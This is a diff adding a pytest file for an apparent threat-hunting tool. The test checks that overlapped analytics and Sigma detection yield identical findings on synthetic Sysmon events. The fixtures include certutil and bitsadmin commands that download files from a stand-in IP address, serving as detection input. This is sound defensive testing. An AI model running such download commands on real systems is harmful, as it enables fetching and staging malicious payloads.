@@ -1,0 +1,63 @@
+"""The analytics run beside the building of the Sigma findings when matching gave many hits
+(``engine._run_detectors``): the findings are those of the two run one after the other."""
+
+from __future__ import annotations
+
+import threading
+from datetime import UTC, datetime, timedelta
+
+import orjson
+
+from tidehunt import engine
+from tidehunt.context import RunContext
+from tidehunt.detect.analytics.detector import AnalyticsDetector
+from tidehunt.engine import HuntOptions, hunt
+
+NOW = datetime.now(UTC)
+
+
+def _ev(rid: int, eid: int, data: dict) -> bytes:
+    ts = (NOW - timedelta(days=3, seconds=rid)).isoformat().replace("+00:00", "Z")
+    return orjson.dumps({"Event": {"System": {
+        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": eid,
+        "TimeCreated": {"#attributes": {"SystemTime": ts}}, "EventRecordID": rid,
+        "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS9.corp.example"},
+        "EventData": data}}) + b"\n"
+
+
+def _hunt(tmp_path, name: str, monkeypatch, overlap_hits: int) -> tuple[bytes, list[str]]:
+    ev = tmp_path / "ev"
+    if not ev.exists():
+        ev.mkdir()
+        (ev / "sysmon.json").write_bytes(b"".join([
+            _ev(1, 22, {"QueryName": "www.vitaminmain.info", "Image": r"C:\x\a.exe"}),
+            _ev(2, 1, {"Image": r"C:\Windows\System32\certutil.exe", "ParentImage":
+                       r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+                       "CommandLine": "certutil -urlcache -split -f http://198.51.100.7/a a"}),
+            _ev(3, 1, {"Image": r"C:\Windows\System32\bitsadmin.exe",
+                       "CommandLine": "bitsadmin /transfer j http://198.51.100.7/b c:\\b"}),
+        ]))
+    monkeypatch.setattr(engine, "OVERLAP_HITS", overlap_hits)
+    threads: list[str] = []
+    budgets: list[str | None] = []
+    real = AnalyticsDetector.run
+
+    def spy(self, store, ctx):
+        threads.append(threading.current_thread().name)
+        budgets.append(self.options.max_memory)
+        yield from real(self, store, ctx)
+
+    monkeypatch.setattr(AnalyticsDetector, "run", spy)
+    case = tmp_path / name
+    hunt([str(ev)], case, RunContext(), HuntOptions(workers=1, retro=True))
+    return (case / "findings.jsonl").read_bytes(), threads + budgets
+
+
+def test_overlapped_analytics_give_the_same_findings(tmp_path, monkeypatch):
+    one_by_one, how = _hunt(tmp_path, "seq", monkeypatch, overlap_hits=10**9)
+    assert how[1] == "2GB"  # after the Sigma findings: the whole budget
+    beside, how = _hunt(tmp_path, "overlap", monkeypatch, overlap_hits=0)
+    assert how[0].startswith("analytics") and how[1] == "953MiB"  # beside: half of 2 GB
+    assert beside == one_by_one
+    rules = {orjson.loads(x)["rule_id"] for x in beside.splitlines()}
+    assert "th-analytic-0034" in rules and len(rules) >= 2  # an analytic and Sigma rules
